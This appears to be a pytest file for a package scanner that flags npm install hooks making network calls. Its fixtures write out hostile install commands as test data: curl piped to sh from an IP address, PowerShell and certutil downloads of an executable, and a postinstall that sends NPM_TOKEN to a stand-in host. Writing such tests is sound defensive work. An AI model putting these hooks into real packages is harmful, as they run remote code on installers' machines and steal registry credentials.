"""npm lifecycle hooks: an installScripts finding each, network tools as install-time network."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from egress.cli import main
from egress.context import node_files_of
from egress.install_scripts import script_findings
from egress.model import Ecosystem, FindingKind, PackageArtifact, Timing
from tests.tarballs import write_tgz as _tgz


def _artifact(scripts: dict, lines: dict | None = None) -> PackageArtifact:
    return PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=lambda want: iter(()),
                           metadata={"kind": "tarball", "scripts": scripts, "script_lines": lines or {}})


def test_a_shell_download_is_an_install_time_network_finding() -> None:
    found = script_findings(_artifact({"postinstall": "curl -s https://203.0.113.7/x | sh", "test": "jest"},
                                      {"postinstall": 6}))
    assert [(f.kind, f.api, f.file, f.line, f.timing, f.note) for f in found] == [
        (FindingKind.INSTALL_SCRIPT, "scripts.postinstall", "package.json", 6, Timing.INSTALL,
         "calls curl; starts pipe, sh"),
        (FindingKind.NETWORK, "curl", "package.json", 6, Timing.INSTALL, "postinstall script runs curl"),
    ]


def test_powershell_and_certutil_and_a_quiet_hook() -> None:
    found = script_findings(_artifact({
        "preinstall": "powershell -c Invoke-WebRequest -Uri http://x -OutFile a.exe",
        "install": "certutil -urlcache -f http://x a.exe",
        "prepare": "husky install",
    }))
    assert sorted((f.kind.value, f.api) for f in found) == [
        ("installScript", "scripts.install"), ("installScript", "scripts.preinstall"),
        ("installScript", "scripts.prepare"),
        ("network", "certutil"), ("network", "powershell Invoke-WebRequest")]
    prepare = next(f for f in found if f.api == "scripts.prepare")
    assert prepare.note == "npm runs prepare only for git and local installs"


def test_inline_node_code_runs_the_files_it_requires() -> None:
    assert node_files_of('node -e "try{require(\'./postinstall\')}catch(e){}"') == ["postinstall.js"]


def test_end_to_end_install_time_network_is_high(tmp_path: Path) -> None:
    manifest = json.dumps({"name": "hooky", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}},
                          indent=2)
    tgz = _tgz(tmp_path / "hooky.tgz", {
        "package/package.json": manifest,
        "package/install.js": "const https = require('https');\nhttps.get('https://203.0.113.7/p');\n",
    })
    result = CliRunner().invoke(main, ["scan", str(tgz), "--format", "json", "--cache-dir", str(tmp_path / "c")])
    assert result.exit_code == 0, result.stderr
    [pkg] = json.loads(result.stdout)["packages"]
    assert sorted((a["type"], a["severity"], a["file"], a["line"], a["timing"]) for a in pkg["alerts"]) == [
        ("installScripts", "high", "package.json", 5, "install"),
        ("installTimeNetwork", "high", "install.js", 2, "install"),
        ("networkAccess", "medium", "install.js", 2, "install"),
        ("suspiciousDestination", "high", "install.js", 2, "install"),     # an IP literal
    ]
    [network] = [a for a in pkg["alerts"] if a["type"] == "networkAccess"]
    assert [(d["text"], d["classes"]) for d in network["destinations"]] == [
        ("https://203.0.113.7/p", ["ip-literal", "public"])]
    assert pkg["severity"] == "high"


def test_inline_hook_code_is_analysed_and_placed_on_the_hook_line(tmp_path: Path) -> None:
    manifest = json.dumps({"name": "inline", "version": "1.0.0", "scripts": {
        "postinstall": "node -e \"require('https').get('https://x.example/'+process.env.NPM_TOKEN)\"",
        "preinstall": "python3 -c \"import urllib.request; urllib.request.urlopen('http://203.0.113.7/')\"",
    }}, indent=2)
    tgz = _tgz(tmp_path / "inline.tgz", {"package/package.json": manifest, "package/index.js": "module.exports = 1\n"})
    result = CliRunner().invoke(main, ["scan", str(tgz), "--format", "json", "--cache-dir", str(tmp_path / "c")])
    assert result.exit_code == 0, result.stderr
    [pkg] = json.loads(result.stdout)["packages"]
    assert pkg["verdict"] == "network"
    network = sorted((a["api"], a["file"], a["line"], a["timing"]) for a in pkg["alerts"] if a["type"] == "networkAccess")
    assert network == [("https.get", "package.json", 5, "install"), ("urllib.request.urlopen", "package.json", 6, "install")]
    hooks = {a["api"]: a["severity"] for a in pkg["alerts"] if a["type"] == "installScripts"}
    assert hooks == {"scripts.postinstall": "high", "scripts.preinstall": "high"}
    note = next(a["note"] for a in pkg["alerts"] if a["api"] == "https.get" and a["type"] == "networkAccess")
    assert note.startswith("in the inline code of the postinstall script (code line 1)")


def test_a_fallback_is_not_a_pipe() -> None:
    found = script_findings(_artifact({"install": "node-gyp rebuild || exit 0",
                                       "postinstall": "node a.js | tee log.txt"}))
    assert {f.api: f.note for f in found} == {"scripts.install": "", "scripts.postinstall": "starts pipe"}


def test_a_shell_script_run_by_a_hook_is_followed() -> None:
    """`sh ./scripts/setup.sh`: its curl line is install-time network, and so is the node file it runs."""
    from egress.engine import ScanOptions, scan
    from egress.model import SourceFile

    files = {
        "scripts/setup.sh": b"#!/bin/sh\n# fetch the helper\nif command -v curl >/dev/null; then\n"
                            b"  curl -fsSL \\\n    https://203.0.113.9/p.sh | sh\nfi\nnode ./lib/post.js\n",
        "lib/post.js": b"require('https').get('https://example.com/ping');\n",
        "index.js": b"module.exports = 1;\n",
    }

    def read(want):
        return (SourceFile(path, data) for path, data in files.items() if want(path))

    artifact = PackageArtifact(Ecosystem.NPM, "hooked", "1.0.0", read_files=read, metadata={
        "kind": "tarball", "scripts": {"postinstall": "sh ./scripts/setup.sh"}, "script_lines": {"postinstall": 4}})
    [result] = scan([artifact], ScanOptions(jobs=1)).packages
    network = [(f.api, f.file, f.line, f.column, f.timing, f.note) for f in result.findings
               if f.kind is FindingKind.NETWORK]
    assert network == [
        ("https.get", "lib/post.js", 1, 1, Timing.INSTALL, ""),
        ("curl", "scripts/setup.sh", 4, 3, Timing.INSTALL, "postinstall script runs scripts/setup.sh, which runs curl"),
    ]
    curl = next(f for f in result.findings if f.api == "curl")
    assert [(d.text, d.known) for d in curl.destinations] == [("https://203.0.113.9/p.sh", "full")]
    types = sorted((a.type, a.severity.value, a.finding.file) for a in result.alerts)
    assert ("installTimeNetwork", "high", "scripts/setup.sh") in types
    assert ("installTimeNetwork", "high", "lib/post.js") in types
    assert ("installScripts", "high", "package.json") in types


def test_hook_scripts_are_only_package_shell_files() -> None:
    from egress.install_scripts import hook_shell_scripts

    assert hook_shell_scripts({"scripts": {
        "preinstall": "bash -e ./a.sh && ./b.sh", "install": "sh -c 'echo hi'", "postinstall": "sh ../up.sh",
        "test": "sh t.sh"}}) == {"a.sh": ("preinstall", "shell"), "b.sh": ("preinstall", "shell")}
    # without install scripts of its own, npm builds a binding.gyp with node-gyp
    assert hook_shell_scripts({"scripts": {"postinstall": "python3 x/p.py && ./run"}}) == {
        "x/p.py": ("postinstall", "python"), "run": ("postinstall", "exec"), "binding.gyp": ("install", "gyp")}
